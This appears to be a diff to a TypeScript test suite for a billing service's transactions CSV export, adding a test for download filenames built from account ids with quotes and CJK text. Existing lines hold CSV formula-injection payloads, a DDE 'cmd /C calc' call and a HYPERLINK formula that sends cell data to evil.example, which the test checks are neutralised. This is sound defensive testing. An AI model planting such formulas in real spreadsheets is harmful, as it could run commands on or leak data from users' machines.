@@ -1,5 +1,5 @@
 import { randomUUID } from 'node:crypto';
-import { eventually } from '@tally/testing';
+import { eventually, usageRated } from '@tally/testing';
 import { AdminHarness } from './admin.harness';
 
 const HEADER =
@@ -99,6 +99,23 @@ describe('the transactions CSV, opened in a spreadsheet', () => {
       `"'+cmd|"" /C calc""!A0","'-2+3",1.000000,${records[1]?.posted_at},,,,`,
       `"'=HYPERLINK(""https://evil.example/?d=""&A1,""open"")","'@SUM(1,2)",10.000000,${records[0]?.posted_at},,,,`,
       '',
+    ]);
+  });
+
+  it("names the file of an account whose id holds quotes and CJK text, which a gateway's subject may", async () => {
+    // A rated event makes its account known to admin (ADR 0161), whatever its subject.
+    const hostile = 'acct "q" 账户';
+    const path = `/v1/accounts/${encodeURIComponent(hostile)}`;
+    await harness.admin.kafka.produceJson(harness.topic('usage.rated'), hostile, [
+      usageRated(hostile, '0.100000'),
+    ]);
+    await eventually(async () => expect((await harness.call('GET', path)).status).toBe(200));
+
+    const csv = await harness.call('GET', `${path}/transactions.csv`);
+    expect([csv.status, csv.headers.get('content-disposition'), csv.text]).toEqual([
+      200,
+      `attachment; filename="transactions-acct__q____.csv"; filename*=UTF-8''transactions-acct%20%22q%22%20%E8%B4%A6%E6%88%B7.csv`,
+      `${HEADER}\r\n`,
     ]);
   });
 });
